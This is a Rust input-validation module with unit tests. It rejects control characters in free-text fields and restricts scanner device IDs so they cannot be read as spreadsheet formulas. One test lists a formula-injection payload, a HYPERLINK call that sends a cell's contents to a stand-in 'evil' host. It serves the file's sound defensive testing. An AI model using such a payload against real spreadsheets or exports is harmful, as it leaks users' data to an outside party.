//! Free text people type (names, descriptions, search words, notes): any printable text, up
//! to a length, but never control characters. A NUL cannot even be stored (PostgreSQL refuses
//! it), and the others are invisible in every screen and report that later shows the text.
//! Identifiers are different: SPEC §1 strips such characters from what a scanner sends.

use crate::ValidationError;

/// Checks one free-text field: at most `max_chars` characters, no control characters.
pub fn check(field: &str, value: &str, max_chars: usize) -> Result<(), ValidationError> {
    check_with(field, value, max_chars, false)
}

/// `check` for text that may span lines (notes): line breaks and tabs are allowed.
pub fn check_multiline(field: &str, value: &str, max_chars: usize) -> Result<(), ValidationError> {
    check_with(field, value, max_chars, true)
}

fn check_with(field: &str, value: &str, max_chars: usize, lines: bool) -> Result<(), ValidationError> {
    if let Some(bad) = value.chars().find(|c| c.is_control() && !(lines && matches!(c, '\n' | '\r' | '\t'))) {
        return Err(ValidationError::field(
            field,
            format!("must not contain control characters (found U+{:04X})", u32::from(bad)),
        ));
    }
    if value.chars().count() > max_chars {
        return Err(ValidationError::field(field, format!("must be at most {max_chars} characters")));
    }
    Ok(())
}

/// A device's name as a scanner station sends it (`X-Device-Id`): letters, digits and
/// `space . _ : / # -`, starting with a letter or digit, at most 64 characters. Nothing a
/// spreadsheet could read as a formula.
pub fn check_device_id(value: &str) -> Result<(), ValidationError> {
    let allowed = |c: char| c.is_ascii_alphanumeric() || matches!(c, ' ' | '.' | '_' | ':' | '/' | '#' | '-');
    let starts_well = value.chars().next().is_some_and(|c| c.is_ascii_alphanumeric());
    if !starts_well || value.len() > 64 || !value.chars().all(allowed) {
        return Err(ValidationError::field(
            "X-Device-Id",
            "must be 1–64 letters, digits or `space . _ : / # -`, starting with a letter or digit",
        ));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn control_characters_are_refused_and_named() {
        assert!(check("destination", "Lucknow, UP — गोदाम 3", 200).is_ok());
        let error = check("destination", "Luck\0now", 200).unwrap_err();
        assert_eq!(error.0[0].field, "destination");
        assert!(error.0[0].message.contains("U+0000"), "{error}");
        for bad in ["a\u{1}", "a\u{1b}[31m", "tab\there", "line\nbreak", "\u{7f}", "\u{85}"] {
            assert!(check("q", bad, 100).is_err(), "{bad:?}");
        }
        assert!(check_multiline("notes", "line one\r\nline two\tend", 100).is_ok());
        assert!(check_multiline("notes", "nul\0", 100).is_err());
    }

    #[test]
    fn length_counts_characters() {
        assert!(check("name", &"अ".repeat(80), 80).is_ok());
        assert!(check("name", &"अ".repeat(81), 80).is_err());
    }

    #[test]
    fn device_ids_cannot_be_formulas() {
        for good in ["station-3", "scanner 07", "GUN:12/A#2", "a"] {
            assert!(check_device_id(good).is_ok(), "{good}");
        }
        for bad in
            ["=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "+1", "-1", "@SUM(A1)", "", " x", "a\u{0}", &"x".repeat(65)]
        {
            assert!(check_device_id(bad).is_err(), "{bad}");
        }
    }
}
